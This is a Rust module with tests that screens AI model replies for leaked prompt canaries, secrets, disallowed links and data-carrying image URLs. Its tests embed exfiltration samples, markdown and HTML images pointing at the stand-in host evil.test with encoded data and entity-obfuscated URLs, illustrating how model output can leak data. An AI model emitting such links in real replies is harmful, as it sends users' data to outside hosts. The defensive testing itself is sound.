//! The guards on a call's way out: what a reply holds that it should not, or lacks.

use std::{collections::BTreeSet, ops::Range, sync::LazyLock};

use regex_automata::meta::Regex;

use super::{
    canary::Canary,
    links::links,
    reading::readings,
    verdict::{Verdict, excerpt},
};
use crate::{
    model::{GuardName, Guards, Message},
    safety::{
        Expression,
        redact::{Redactor, Selection},
    },
};

/// What came back, and what it answers.
#[derive(Clone, Copy, Debug)]
pub struct Reply<'a> {
    /// Everything the model wrote: text, refusal, the arguments of tool calls.
    pub parts: &'a [&'a str],
    /// The messages as they were sent: what stands in them is no news in a reply.
    pub messages: &'a [Message],
    pub canary: Option<&'a Canary>,
}

/// Looks a reply over.
#[must_use]
pub fn outgoing(reply: &Reply<'_>, guards: &Guards) -> Verdict {
    let mut verdict = Verdict::new(guards);
    if let Some(canary) = reply.canary {
        match reply.parts.iter().find_map(|part| canary.leak(part)) {
            Some(how) => verdict.found(
                GuardName::Canary,
                0.0,
                format!("the canary of the system message stands in the reply, {how}"),
                "the reply gives the prompt away; look at the values it was given".to_owned(),
            ),
            None => verdict.clean(GuardName::Canary, 1.0, "the canary is not in the reply"),
        }
    }
    if guards.output.looks() {
        output(reply, guards, &mut verdict);
    }
    verdict
}

/// Most things told of one reply.
const MOST: usize = 5;

fn output(reply: &Reply<'_>, guards: &Guards, verdict: &mut Verdict) {
    let mut found = Vec::new();
    for part in reply.parts {
        found.extend(leading_away(part, reply.messages, guards));
        found.extend(secrets(part, reply.messages));
    }
    for expression in &guards.forbidden {
        found.extend(forbidden(expression, reply.parts));
    }
    for expression in &guards.required {
        let whole = reply.parts.first().copied().unwrap_or_default();
        match Expression::new(expression).and_then(|compiled| look(&compiled, whole)) {
            Ok(Some(_)) => {}
            Ok(None) => found.push(format!("nothing in it matches {}", excerpt(expression))),
            Err(error) => found.push(cannot_look(expression, &error)),
        }
    }
    if found.is_empty() {
        return verdict.clean(GuardName::Output, 1.0, "the reply holds nothing it must not");
    }
    let more = found.len().saturating_sub(MOST);
    found.truncate(MOST);
    let more = if more == 0 { String::new() } else { format!("; and {more} more") };
    verdict.found(
        GuardName::Output,
        0.0,
        format!("{}{more}", found.join("; ")),
        "read the reply before you use it".to_owned(),
    );
}

/// Links to hosts that are not allowed, and images that would carry data away, in whichever way
/// the text is read. What the prompt itself names may be named back.
fn leading_away(part: &str, messages: &[Message], guards: &Guards) -> Vec<String> {
    let mut found = Vec::new();
    let mut told = BTreeSet::new();
    for reading in readings(part) {
        for link in links(&reading.text) {
            let range = reading.origin(&link.range);
            let address = part.get(range.clone()).unwrap_or_default();
            let known = || messages.iter().any(|message| message.content.contains(address));
            let what = match &guards.allowed_hosts {
                Some(hosts) if !link.is_of(hosts) => "a link to a host that is not allowed:",
                None if link.carries() && !known() => "an image that would carry data to",
                _ => continue,
            };
            if told.insert(range.start) {
                found.push(format!("{what} {}", excerpt(address)));
            }
        }
    }
    found
}

static SECRETS: LazyLock<Option<Redactor>> =
    LazyLock::new(|| Redactor::new(&Selection { secrets: true, ..Selection::default() }).ok());

/// What stands before the secrets that may be short: they are told by that.
static NAMES: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new("(?i-u)pass|pwd|basic|://|secret|token|key").ok());

/// Whether a text has what every known kind of secret has: a long run without a blank, or a name
/// with a sign after it. Most prose has neither, and need not be looked at further.
fn may_hold_secrets(part: &str) -> bool {
    const LONG: usize = 16;
    part.split_ascii_whitespace().any(|word| word.len() >= LONG)
        || (part.contains(['=', ':']) && NAMES.as_ref().is_none_or(|names| names.is_match(part)))
}

/// Secrets that the prompt did not hold. Where they stand is told, never what they are.
fn secrets(part: &str, messages: &[Message]) -> Vec<String> {
    if !may_hold_secrets(part) {
        return Vec::new();
    }
    let findings = SECRETS.as_ref().map(|redactor| redactor.findings(part)).unwrap_or_default();
    let news = findings.into_iter().filter(|finding| {
        let secret = part.get(finding.range.clone()).unwrap_or_default();
        !messages.iter().any(|message| message.content.contains(secret))
    });
    news.map(|finding| format!("{} at byte {}", finding.label, finding.range.start)).collect()
}

/// What an expression forbids of what came back. It is made once: there may be as many parts as
/// calls of tools.
fn forbidden(expression: &str, parts: &[&str]) -> Vec<String> {
    let compiled = match Expression::new(expression) {
        Ok(compiled) => compiled,
        Err(error) => return vec![cannot_look(expression, &error)],
    };
    let told = |part: &&str| match look(&compiled, part) {
        Ok(matched) => matched.map(|matched| {
            let words = excerpt(part.get(matched).unwrap_or_default());
            format!("{words} is forbidden by {}", excerpt(expression))
        }),
        Err(error) => Some(cannot_look(expression, &error)),
    };
    parts.iter().filter_map(told).collect()
}

fn look(expression: &Expression, text: &str) -> Result<Option<Range<usize>>, String> {
    expression.find(text).map_err(|error| error.to_string())
}

fn cannot_look(expression: &str, error: &str) -> String {
    format!("{} cannot be looked for: {error}", excerpt(expression))
}

/// Checks a regular expression for `forbidden` or `required`.
///
/// # Errors
/// What is wrong with it, in words.
pub fn check_expression(expression: &str) -> Result<(), String> {
    Expression::new(expression).map(|_| ())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::{GuardAction, Role};

    fn look(text: &str, prompt: &str, guards: &Guards, canary: Option<&Canary>) -> Verdict {
        let messages = [Message::new(Role::User, prompt)];
        outgoing(&Reply { parts: &[text], messages: &messages, canary }, guards)
    }

    fn blocking() -> Guards {
        Guards { output: GuardAction::Block, canary: GuardAction::Block, ..Guards::default() }
    }

    #[test]
    fn a_leaked_canary_stops_the_reply() {
        let canary = Canary::new(77);
        let leak = format!("Sure: {}", canary.token());
        let verdict = look(&leak, "", &blocking(), Some(&canary));
        assert_eq!(verdict.blocked.map(|blocked| blocked.guard), Some(GuardName::Canary));
        assert!(!verdict.checks.iter().any(|check| check.reason.contains(canary.token())));
        let verdict = look("nothing", "", &blocking(), Some(&canary));
        assert!(verdict.blocked.is_none() && verdict.checks.len() == 2);
    }

    #[test]
    fn links_are_held_against_the_hosts_that_are_allowed() {
        let allowed_hosts = Some(vec!["example.com".to_owned()]);
        let guards = Guards { allowed_hosts, ..blocking() };
        assert!(look("see https://docs.example.com/a", "", &guards, None).blocked.is_none());
        let verdict = look("see https://evil.test/a", "", &guards, None);
        assert!(verdict.blocked.is_some_and(|it| it.found.contains("evil.test")));
        let carrying = "![x](https://evil.test/p?d=c2VjcmV0IGRhdGE)";
        assert!(look(carrying, "", &blocking(), None).blocked.is_some());
        assert!(
            look(carrying, carrying, &blocking(), None).blocked.is_none(),
            "it was in the prompt"
        );
        assert!(
            look("see https://any.test/a?b=cdefghijk", "", &blocking(), None).blocked.is_none()
        );
    }

    #[test]
    fn links_are_read_with_their_references_and_escapes() {
        let allowed_hosts = Some(vec!["example.com".to_owned()]);
        let guards = Guards { allowed_hosts, ..blocking() };
        for text in [
            "![x](&#104;ttps://evil.test/x?d=secret)",
            "![x](https:&#47;/evil.test/x?d=s)",
            "![x](https\\://evil.test/x)",
            "![x](https://example.com\\@evil.test/x)",
            "![x](ht&Tab;tps&colon;&sol;&bsol;evil.test/x)",
            "<img src=\"&#x00068;ttps://evil.test/x\">",
            "<img src=\"&#104ttps&colon;//evil.test/x\">",
            "<img src=\"&NewLine;/&NewLine;/evil.test/x\">",
            "<img src='https://example.com&commat;evil&period;test/x'>",
            "<img src='https://evil.test&num;.example.com/x'>",
            "<img src='https://evil.test&sol;.example.com/x'>",
            "<p style='background:url&lpar;&quot;//evil.test/x&quot;)'>",
        ] {
            let found = look(text, "", &guards, None).blocked.map(|blocked| blocked.found);
            let found = found.unwrap_or_else(|| panic!("{text}"));
            assert_eq!(found.matches("a link to a host").count(), 1, "{found}");
            assert!(found.contains("evil"), "{found}");
        }
        for text in [
            "![x](&#104;ttps://example.com/x?a=1&amp;b=2)",
            "[x](https\\://docs.example.com/a\\_b)",
            "`&lt;img src=x&gt;` & `\\/\\/` \\(a\\)",
        ] {
            assert!(look(text, "", &guards, None).blocked.is_none(), "{text}");
        }
        let carrying = "<img src='https&colon;//evil.test/p?d=c2VjcmV0IGRhdGE'>";
        assert!(look(carrying, "", &blocking(), None).blocked.is_some());
        assert!(look(carrying, carrying, &blocking(), None).blocked.is_none(), "in the prompt");
    }

    #[test]
    fn a_secret_is_told_by_its_kind_and_never_repeated() {
        let secret = format!("AKIA{}", "QYLPMN5HFIQR7BBB");
        let text = format!("the key is {secret} now");
        let verdict = look(&text, "", &blocking(), None);
        let found = verdict.blocked.expect("a secret").found;
        assert!(!found.contains(&secret) && found.contains("at byte 11"), "{found}");
        assert!(look(&text, &text, &blocking(), None).blocked.is_none(), "it was in the prompt");
    }

    #[test]
    fn own_expressions_forbid_and_require() {
        let guards = Guards {
            forbidden: vec!["(?i)internal only".into()],
            required: vec!["^Summary".into()],
            ..blocking()
        };
        assert!(look("Summary: fine", "", &guards, None).blocked.is_none());
        let found = look("This is INTERNAL ONLY", "", &guards, None).blocked.expect("both").found;
        assert!(found.contains("INTERNAL ONLY") && found.contains("^Summary"), "{found}");
        assert!(check_expression("a(").is_err());
        assert!(check_expression(r"\w{1000}{1000}").is_err());
        assert!(check_expression("(a+)+$").is_ok(), "linear whatever it looks like");
    }
}
